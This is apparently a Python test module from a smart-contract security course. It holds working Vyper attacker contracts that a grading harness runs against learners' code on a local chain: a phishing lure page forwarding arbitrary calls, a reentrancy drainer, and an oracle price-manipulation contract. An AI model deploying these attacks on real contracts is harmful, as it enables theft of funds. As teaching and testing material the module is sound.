"""The hostile callers of unit 04, and the places where they meet a learner's contract."""

from typing import Any

from nnchain_edu.exercises.contracts import must_compile, on_fresh_chain, reverts
from nnchain_edu.exercises.kinds import Miss

ETHER = 10**18
GAS = 3_000_000  # hostile callers name it, since an estimate is made in the block before theirs

# A page that somebody is lured to: the transaction is theirs, the call is the page's.
LURE = """
@external
def claim_your_prize(target: address, call: Bytes[1024]):
    raw_call(target, call)
"""

# Withdraws again while it is being paid, or gives its money away while it is being paid.
REENTRANT = """
interface Bank:
    def deposit(): payable
    def withdraw(): nonpayable
    def give(receiver: address, amount: uint256): nonpayable

bank: address
friend: address
stake: uint256
rounds: uint256

@external
@payable
def rob(bank: address, friend: address, rounds: uint256):
    self.bank = bank
    self.friend = friend
    self.stake = msg.value
    self.rounds = rounds
    extcall Bank(bank).deposit(value=msg.value)
    extcall Bank(bank).withdraw()

@external
def withdraw(bank: address):
    extcall Bank(bank).withdraw()

@external
@payable
def __default__():
    if msg.sender != self.bank or self.rounds == 0:
        return
    self.rounds -= 1
    if self.friend == empty(address):
        extcall Bank(self.bank).withdraw()
    else:
        extcall Bank(self.bank).give(self.friend, self.stake)
"""

# An honest contract that writes down what it is paid, which takes more gas than `send` leaves it.
WALLET = """
interface Bank:
    def deposit(): payable
    def withdraw(): nonpayable

received: public(uint256)

@external
@payable
def save(bank: address):
    extcall Bank(bank).deposit(value=msg.value)

@external
def take(bank: address):
    extcall Bank(bank).withdraw()

@external
@payable
def __default__():
    self.received += msg.value
"""

# Lifts the market's price, lets the vault look, sells to it, and lets the price fall: all in one transaction.
MOVER = """
from ethereum.ercs import IERC20

interface Market:
    def buy() -> uint256: payable
    def sell(tokens: uint256) -> uint256: nonpayable

interface Vault:
    def update(): nonpayable
    def sell(tokens: uint256): nonpayable

@external
@payable
def move(vault: address, market: address, token: address, tokens: uint256):
    bought: uint256 = extcall Market(market).buy(value=msg.value)
    extcall Vault(vault).update()
    extcall IERC20(token).approve(vault, tokens)
    extcall Vault(vault).sell(tokens)
    extcall IERC20(token).approve(market, bought - tokens)
    extcall Market(market).sell(bought - tokens)
    raw_call(msg.sender, b"", value=self.balance)

@external
@payable
def __default__():
    pass
"""


def address(chain: Any, who: str) -> str:
    """The address of one of the chain's people."""
    return chain.accounts[who].address


def attempt(action: Any) -> bool:
    """Try a hostile transaction, and say whether it went through; that it reverts is what one hopes for."""
    return not reverts(action)


def lure(chain: Any, who: str, call: Any) -> None:
    """Have `who` visit a page of Judy's, which makes the contract call `call` in the page's name."""
    page = chain.deploy(LURE, sender="judy")
    data = bytes.fromhex(call._encode_transaction_data()[2:])
    attempt(lambda: chain.send(page.functions.claim_your_prize, call.address, data, sender=who, gas=GAS))


def something(field: dict, who: str) -> Any:
    """A value for an argument of a function's ABI, with the address `who` wherever one is asked for."""
    kind = field["type"]
    if kind.endswith("]"):
        inner, _, count = kind[:-1].rpartition("[")
        return [something(field | {"type": inner}, who)] * int(count or 1)
    if kind == "tuple":
        return tuple(something(part, who) for part in field["components"])
    if kind.startswith("bytes"):
        return b"\x01" * int(kind[5:] or 1)
    return {"address": who, "bool": True, "string": "judy"}.get(kind, 1)


def keeps(chain: Any, contract: Any, least: int) -> bool | Miss:
    """Whether a contract still holds at least so many wei."""
    held = chain.balance(contract)
    return held >= least or Miss(("Ether left", f"{held / ETHER:g} of {least / ETHER:g}"))


def bank_with_savings(answer: Any) -> tuple[Any, Any]:
    """(chain, bank): the learner's bank, with 5 ether each of alice and bob."""
    chain, bank = on_fresh_chain(answer)
    for who in ("alice", "bob"):
        chain.send(bank.functions.deposit(), sender=who, value=5 * ETHER)
    return chain, bank


def vault_in_the_city(answer: Any) -> tuple[Any, Any, Any, Any]:
    """(chain, vault, market, token): the vault with 10 ether in each purse, beside a market of 100 ether.

    The market is a day older than the vault. Alice is the keeper and has 900,000 tokens, bob and carol have deposited
    5 ether each. The vault has looked at the price once.
    """
    from nnchain_edu.chain import Chain
    from nnchain_edu.lab.city import open_market

    must_compile(answer)
    chain = Chain()
    token, market = open_market(chain)
    chain.travel(86_400)
    vault = chain.deploy(answer, token, market, value=20 * ETHER)
    for who in ("bob", "carol"):
        chain.send(vault.functions.deposit(), sender=who, value=5 * ETHER)
    chain.travel(1800)
    chain.send(vault.functions.update())
    return chain, vault, market, token
